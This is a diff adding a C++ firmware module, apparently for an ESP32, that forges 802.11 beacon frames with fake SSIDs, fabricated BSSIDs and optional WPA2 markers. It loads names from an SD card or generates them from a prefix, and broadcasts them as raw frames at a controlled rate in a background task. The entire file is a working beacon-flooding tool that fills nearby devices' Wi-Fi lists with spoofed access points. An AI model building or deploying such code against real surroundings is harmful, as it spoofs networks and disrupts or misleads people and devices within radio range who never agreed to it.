@@ -0,0 +1,207 @@
+#include "beacon_flood.h"
+#include "table_util.h"
+
+#define CREDIT_PER_FRAME 1000000ULL // Microseconds per second, see TxRateController
+
+size_t buildBeacon(uint8_t* out, size_t max, const uint8_t* bssid, const uint8_t* ssid, uint8_t ssidLen,
+                   uint8_t channel, bool wpa2, uint8_t* channelOffset) {
+    static const uint8_t rates[] = {0x01, 0x08, 0x82, 0x84, 0x8B, 0x96, 0x24, 0x30, 0x48, 0x6C}; // 1-11 basic, 18-54
+    static const uint8_t tim[] = {0x05, 0x04, 0x00, 0x01, 0x00, 0x00};
+    static const uint8_t rsn[] = {0x30, 0x14, 0x01, 0x00,
+                                  0x00, 0x0F, 0xAC, 0x04,             // Group: CCMP
+                                  0x01, 0x00, 0x00, 0x0F, 0xAC, 0x04, // Pairwise: CCMP
+                                  0x01, 0x00, 0x00, 0x0F, 0xAC, 0x02, // AKM: PSK
+                                  0x00, 0x00};
+    if (ssidLen > 32) return 0;
+    size_t len = 36 + 2 + ssidLen + sizeof(rates) + 3 + sizeof(tim) + (wpa2 ? sizeof(rsn) : 0);
+    if (len > max) return 0;
+
+    memset(out, 0, 36);
+    out[0] = 0x80;                  // Beacon
+    memset(out + 4, 0xFF, 6);       // Broadcast
+    memcpy(out + 10, bssid, 6);
+    memcpy(out + 16, bssid, 6);
+    out[32] = 0x64;                 // Interval: 100 TU
+    out[34] = wpa2 ? 0x11 : 0x01;   // ESS, privacy
+    out[35] = 0x04;                 // Short slot time
+    size_t pos = 36;
+    out[pos++] = 0x00;
+    out[pos++] = ssidLen;
+    memcpy(out + pos, ssid, ssidLen);
+    pos += ssidLen;
+    memcpy(out + pos, rates, sizeof(rates));
+    pos += sizeof(rates);
+    out[pos++] = 0x03;
+    out[pos++] = 0x01;
+    if (channelOffset) *channelOffset = pos;
+    out[pos++] = channel;
+    memcpy(out + pos, tim, sizeof(tim));
+    pos += sizeof(tim);
+    if (wpa2) {
+        memcpy(out + pos, rsn, sizeof(rsn));
+        pos += sizeof(rsn);
+    }
+    return pos;
+}
+
+void patchBeacon(uint8_t* frame, uint16_t seq, uint64_t tsfUs) {
+    frame[BEACON_SEQ_OFFSET] = seq << 4;
+    frame[BEACON_SEQ_OFFSET + 1] = seq >> 4;
+    for (int i = 0; i < 8; i++) frame[BEACON_TSF_OFFSET + i] = tsfUs >> (8 * i);
+}
+
+void beaconBssid(uint8_t* out, const uint8_t* ssid, uint8_t ssidLen, uint16_t index) {
+    uint32_t h = (fnv1a(ssid, ssidLen) ^ index) * FNV1A_PRIME;
+    out[0] = 0x02; // Locally administered, unicast
+    out[1] = 0xEC;
+    out[2] = h >> 24;
+    out[3] = h >> 16;
+    out[4] = h >> 8;
+    out[5] = h;
+}
+
+bool BeaconPool::begin(uint16_t poolCapacity) {
+    end();
+    templates = (BeaconTemplate*)malloc(poolCapacity * sizeof(BeaconTemplate));
+    if (!templates) {
+        Serial.println("Beacons: no memory for " + String(poolCapacity) + " frames");
+        return false;
+    }
+    capacity = poolCapacity;
+    return true;
+}
+
+void BeaconPool::end() {
+    free(templates);
+    templates = nullptr;
+    capacity = count = cursor = 0;
+}
+
+bool BeaconPool::add(const uint8_t* ssid, uint8_t len, uint8_t channel, bool wpa2) {
+    if (count >= capacity) return false;
+    BeaconTemplate& t = templates[count];
+    uint8_t bssid[6];
+    beaconBssid(bssid, ssid, len, count);
+    t.len = buildBeacon(t.frame, sizeof(t.frame), bssid, ssid, len, channel, wpa2, &t.channelOffset);
+    if (t.len == 0) return false;
+    t.seq = 0;
+    count++;
+    return true;
+}
+
+uint16_t BeaconPool::load(const String& path, uint8_t channel, bool wpa2) {
+    File file = SD.open(path, FILE_READ);
+    if (!file) return 0;
+    uint16_t added = 0;
+    while (file.available() && count < capacity) {
+        String line = file.readStringUntil('\n');
+        line.trim();
+        if (line.length() == 0 || line[0] == '#') continue;
+        if (add((const uint8_t*)line.c_str(), std::min<size_t>(line.length(), 32), channel, wpa2)) added++;
+    }
+    file.close();
+    return added;
+}
+
+void BeaconPool::fill(const char* prefix, uint16_t n, uint8_t channel, bool wpa2) {
+    char ssid[33];
+    for (uint16_t i = 1; i <= n; i++) {
+        int len = snprintf(ssid, sizeof(ssid), "%s-%02u", prefix, i);
+        if (!add((const uint8_t*)ssid, std::min(len, 32), channel, wpa2)) break;
+    }
+}
+
+void BeaconPool::setChannel(uint8_t channel) {
+    for (uint16_t i = 0; i < count; i++) templates[i].frame[templates[i].channelOffset] = channel;
+}
+
+BeaconTemplate& BeaconPool::next() {
+    BeaconTemplate& t = templates[cursor];
+    cursor = cursor + 1 < count ? cursor + 1 : 0;
+    return t;
+}
+
+void TxRateController::begin(uint32_t targetFps, uint32_t nowUs) {
+    target = targetFps;
+    credit = CREDIT_PER_FRAME; // The first frame goes right away
+    lastUs = windowStartUs = nowUs;
+    windowFrames = achieved = sentOk = failed = 0;
+}
+
+uint32_t TxRateController::ready(uint32_t nowUs) {
+    credit += (uint64_t)(uint32_t)(nowUs - lastUs) * target;
+    if (credit > BEACON_BURST * CREDIT_PER_FRAME) credit = BEACON_BURST * CREDIT_PER_FRAME;
+    lastUs = nowUs;
+    uint32_t windowUs = nowUs - windowStartUs;
+    if (windowUs >= BEACON_WINDOW_US) {
+        achieved = (uint64_t)windowFrames * 1000000ULL / windowUs;
+        windowFrames = 0;
+        windowStartUs = nowUs;
+    }
+    return credit / CREDIT_PER_FRAME;
+}
+
+uint32_t TxRateController::waitUs() {
+    if (credit >= CREDIT_PER_FRAME) return 0;
+    if (target == 0) return BEACON_WINDOW_US / 10;
+    return (CREDIT_PER_FRAME - credit + target - 1) / target;
+}
+
+// A failed frame still spends its credit, so a full driver queue slows the loop down instead of spinning it
+void TxRateController::sent(bool ok) {
+    credit = credit >= CREDIT_PER_FRAME ? credit - CREDIT_PER_FRAME : 0;
+    if (ok) {
+        sentOk++;
+        windowFrames++;
+    } else {
+        failed++;
+    }
+}
+
+bool BeaconFlood::start(uint32_t fps) {
+    if (running || pool.size() == 0) return false;
+    lastMicros = micros();
+    tsfUs = 0;
+    rate.begin(fps, lastMicros);
+    stopRequested = false;
+    running = true;
+    if (xTaskCreate(txLoop, "beacon_tx", 3072, this, 2, &txTask) != pdPASS) {
+        txTask = nullptr; // poll() sends from the module loop instead
+    }
+    return true;
+}
+
+void BeaconFlood::stop() {
+    if (!running) return;
+    stopRequested = true;
+    while (txTask) delay(5);
+    running = false;
+}
+
+void BeaconFlood::txLoop(void* param) {
+    BeaconFlood* self = static_cast<BeaconFlood*>(param);
+    while (!self->stopRequested) {
+        uint32_t waitUs = self->transmit();
+        vTaskDelay(std::max<uint32_t>(1, pdMS_TO_TICKS(waitUs / 1000)));
+    }
+    self->txTask = nullptr;
+    vTaskDelete(nullptr);
+}
+
+void BeaconFlood::poll() {
+    if (running && !txTask) transmit();
+}
+
+uint32_t BeaconFlood::transmit() {
+    uint32_t now = micros();
+    tsfUs += (uint32_t)(now - lastMicros);
+    lastMicros = now;
+    for (uint32_t n = rate.ready(now); n > 0; n--) {
+        BeaconTemplate& t = pool.next();
+        patchBeacon(t.frame, t.seq, tsfUs);
+        t.seq = (t.seq + 1) & 0x0FFF;
+        bool ok = esp_wifi_80211_tx(WIFI_IF_STA, t.frame, t.len, false) == ESP_OK;
+        rate.sent(ok);
+    }
+    return rate.waitUs();
+}